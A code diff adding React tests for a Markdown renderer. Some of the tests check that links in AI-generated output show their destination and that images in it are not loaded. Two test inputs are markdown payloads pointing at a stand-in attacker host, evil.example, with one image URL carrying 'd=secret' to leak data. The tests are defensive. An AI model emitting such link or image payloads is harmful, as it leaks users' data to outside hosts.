@@ -1,5 +1,6 @@
 import { describe, expect, it } from "@jest/globals";
 import { render, screen } from "@testing-library/react";
+import { TesseraProvider } from "../theme/tessera-provider.tsx";
 import { Markdown } from "./markdown.tsx";
 
 describe("Markdown", () => {
@@ -77,5 +78,56 @@ describe("Markdown", () => {
 
     expect(screen.getByRole("heading", { name: "Steps" }).tagName).toBe("H3");
     expect(screen.getByRole("heading", { name: "More" }).tagName).toBe("H4");
+  });
+
+  it("lets known words lead somewhere, where they are words of their own", () => {
+    const references = [
+      { word: "#12", draw: () => <a href="/dashboard/tickets/t-12">the twelfth</a> },
+      { word: "checkout.har", draw: () => <button type="button">the file</button> },
+    ];
+
+    render(<Markdown text="Like #12, not #123 or `#12`, says **checkout.har**" references={references} />);
+
+    expect(screen.getByRole("link", { name: "the twelfth" }).getAttribute("href")).toBe(
+      "/dashboard/tickets/t-12",
+    );
+    expect(screen.getByRole("button", { name: "the file" }).parentElement?.tagName).toBe("STRONG");
+    expect(screen.getByText("#12").tagName).toBe("CODE");
+    expect(screen.getByText(/not #123 or/)).toBeTruthy();
+  });
+
+  it("makes no reference of what merely calls itself one", () => {
+    render(<Markdown text="[x](reference:7)" />);
+
+    expect(screen.queryByRole("link")).toBeNull();
+  });
+});
+
+describe("Markdown of a model", () => {
+  it("says where its links lead", () => {
+    render(<Markdown text="[your account](https://evil.example/steal?x=1)" isFromModel />);
+
+    expect(screen.getByText("(evil.example/steal)").className).toBe("target");
+    expect(screen.getByRole("link").getAttribute("rel")).toBe("noopener noreferrer");
+  });
+
+  it("renders no picture, and says where one would have come from", () => {
+    const { container } = render(
+      <Markdown text="![logo](https://evil.example/p.png?d=secret)" isFromModel />,
+    );
+
+    expect(container.querySelector("img")).toBeNull();
+    expect(screen.getByText("(evil.example/p.png)")).toBeTruthy();
+  });
+
+  it("lets code be copied", () => {
+    render(
+      <TesseraProvider env="test">
+        <Markdown text={"```json\n{}\n```"} isFromModel />
+      </TesseraProvider>,
+    );
+
+    expect(screen.getByRole("button", { name: "Copy the code" })).toBeTruthy();
+    expect(screen.getByText("json")).toBeTruthy();
   });
 });
